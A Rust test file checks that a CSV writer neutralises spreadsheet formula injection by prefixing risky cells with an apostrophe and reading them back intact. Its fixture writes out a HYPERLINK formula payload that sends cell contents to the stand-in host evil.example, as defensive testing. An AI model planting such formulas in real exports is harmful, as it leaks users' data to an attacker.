//! CSV cells the widget writes are inert (src/exchange/csv.rs): a
//! field a spreadsheet would run as a formula is written with a `'` before
//! it, and the reader takes that `'` off again, so that any field reads
//! back as it was written.

#![cfg(not(target_arch = "wasm32"))]

use mq_core::exchange::csv::csv_line;
use mq_core::exchange::csv::records::records;
use proptest::prelude::*;

/// What a spreadsheet runs as a formula when a cell starts with it.
const FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `fields` written as a line under a header, and read back.
fn round_trip(fields: &[String]) -> Vec<String> {
    let text = csv_line(["header", "line"]) + &csv_line(fields);
    let mut read = records(&text).skip(1);
    let (_, row) = read.next().expect("the line is read");
    assert!(read.next().is_none(), "one line: {text:?}");
    row.expect("no open quote")
        .into_iter()
        .map(String::from)
        .collect()
}

/// The cell a spreadsheet sees for a line of one field: without its
/// quotes, if it has them.
fn cell(line: &str) -> String {
    let line = line.strip_suffix("\r\n").expect("a line ends in CRLF");
    match line.strip_prefix('"').and_then(|l| l.strip_suffix('"')) {
        Some(quoted) => quoted.replace("\"\"", "\""),
        None => line.to_string(),
    }
}

#[test]
fn a_field_starting_with_each_formula_character_gets_a_mark_and_reads_back() {
    for c in FORMULA {
        let field = format!("{c}HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")");
        let line = csv_line([field.as_str()]);
        assert_eq!(cell(&line), format!("'{field}"), "{line:?}");
        assert_eq!(
            round_trip(&[field.clone(), "x".into()]),
            [field, "x".to_string()]
        );
    }
    // A text mark of its own is kept, by doubling it.
    assert_eq!(csv_line(["'=1", "'word", "a-b"]), "''=1,''word,a-b\r\n");
    assert_eq!(
        round_trip(&["'=1".into(), "'word".into()]),
        ["'=1", "'word"]
    );
    // A mark a person typed before a word is not one the writer put there.
    let typed: Vec<String> = records("h,i\n'word,x\n")
        .nth(1)
        .unwrap()
        .1
        .unwrap()
        .into_iter()
        .map(String::from)
        .collect();
    assert_eq!(typed, ["'word", "x"]);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1024, ..ProptestConfig::default() })]

    #[test]
    fn any_fields_read_back_as_written(
        fields in prop::collection::vec(
            prop_oneof![any::<String>(), "['=+@\\t\\r\\n\",;-]{0,4}[a-z]{0,3}"],
            2..6,
        )
    ) {
        prop_assert_eq!(round_trip(&fields), fields);
    }

    #[test]
    fn no_written_cell_starts_with_a_formula_character(
        field in prop_oneof![any::<String>(), "['=+@\\t\\r\\n\",;-]{1,4}[a-z0-9]{0,3}"]
    ) {
        let written = cell(&csv_line([field.as_str()]));
        prop_assert!(!written.starts_with(FORMULA), "{:?} written as {:?}", field, written);
    }
}
